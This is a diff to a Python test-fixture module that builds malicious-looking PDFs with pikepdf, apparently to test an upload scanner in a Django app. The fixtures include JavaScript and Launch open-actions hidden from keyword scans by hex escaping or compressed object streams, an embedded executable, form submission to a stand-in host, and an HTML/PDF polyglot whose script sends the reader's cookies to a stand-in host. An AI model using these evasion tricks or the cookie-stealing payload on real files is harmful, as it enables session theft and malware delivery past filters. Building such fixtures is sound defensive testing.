@@ -4,18 +4,119 @@ import io
 import struct
 import zlib
 
+import pikepdf
 from django.core.files.uploadedfile import SimpleUploadedFile
+from pikepdf import Array, Dictionary, Name, String
 from PIL import Image
 
-PDF = (
-    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
-    b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
-    b"trailer<</Root 1 0 R>>\n%%EOF\n"
-)
+
+def pdf_bytes(change=None, **save_options):
+    """A one-page A4 PDF written by qpdf, `change(pdf)` applied first; uncompressed by default."""
+    with pikepdf.new() as pdf:
+        pdf.add_blank_page(page_size=(595, 842))
+        if change:
+            change(pdf)
+        buffer = io.BytesIO()
+        options = {"compress_streams": False, "static_id": True, **save_options}
+        pdf.save(buffer, **options)
+    return buffer.getvalue()
+
+
+PDF = pdf_bytes()
 
 
 def pdf_file(name="deliberation.pdf"):
     return SimpleUploadedFile(name, PDF, content_type="application/pdf")
+
+
+def open_action(**action):
+    def change(pdf):
+        pdf.Root.OpenAction = pdf.make_indirect(Dictionary(**action))
+
+    return change
+
+
+def with_link_and_destination(pdf):
+    """What ordinary documents carry: a link to click, and opening on the first page."""
+    page = pdf.pages[0]
+    link = Dictionary(S=Name.URI, URI=String("https://www.service-public.fr/"))
+    page.Annots = Array(
+        [Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[72, 700, 300, 720], A=link)]
+    )
+    pdf.Root.OpenAction = Array([page.obj, Name.Fit])
+
+
+def hex_escaped(data, name):
+    """`/S /Name` spelled `/S/N#xxme`: same length, so the cross-reference table stays right."""
+    escaped = name[:1] + b"#%02x" % name[1] + name[2:]
+    assert b" /S /" + name in data
+    return data.replace(b" /S /" + name, b"/S/" + escaped)
+
+
+def javascript_hex_escaped():
+    body = pdf_bytes(open_action(S=Name.JavaScript, JS=String("app.alert(1)")))
+    return hex_escaped(body, b"JavaScript")
+
+
+def launch_hex_escaped():
+    body = pdf_bytes(open_action(S=Name.Launch, F=String("C:\\Windows\\System32\\calc.exe")))
+    return hex_escaped(body, b"Launch")
+
+
+def javascript_in_object_stream():
+    """The action packed in a FlateDecode object stream: no `JavaScript` in the file's bytes."""
+    return pdf_bytes(
+        open_action(S=Name.JavaScript, JS=String("app.alert(1)")),
+        compress_streams=True,
+        object_stream_mode=pikepdf.ObjectStreamMode.generate,
+    )
+
+
+def submit_form_on_opening():
+    return pdf_bytes(open_action(S=Name.SubmitForm, F=String("https://collecte.example/"), Flags=4))
+
+
+def uri_on_opening():
+    return pdf_bytes(open_action(S=Name.URI, URI=String("https://pistage.example/ouvert")))
+
+
+def xfa_form():
+    def change(pdf):
+        xfa = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'></xdp:xdp>")
+        pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=xfa)
+
+    return pdf_bytes(change)
+
+
+def html_polyglot():
+    """`%PDF-1.4` then a web page: a PDF reader and a browser each find their own document."""
+    page = b"<html><script>document.location='https://vol.example/?'+document.cookie</script>\n"
+    header, rest = PDF.split(b"\n", 1)
+    return header + b"\n" + page + rest
+
+
+def embedded_file():
+    def change(pdf):
+        pdf.attachments["notes.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00")
+
+    return pdf_bytes(change)
+
+
+def page_opening_action():
+    def change(pdf):
+        pdf.pages[0].AA = Dictionary(
+            O=Dictionary(S=Name.URI, URI=String("https://pistage.example/page"))
+        )
+
+    return pdf_bytes(change)
+
+
+def password_protected():
+    return pdf_bytes(encryption=pikepdf.Encryption(owner="secret", user="secret"))
+
+
+def truncated():
+    return PDF[: len(PDF) // 2] + b"\n%%EOF\n"
 
 
 def executable_named_pdf(name="bilan.pdf"):
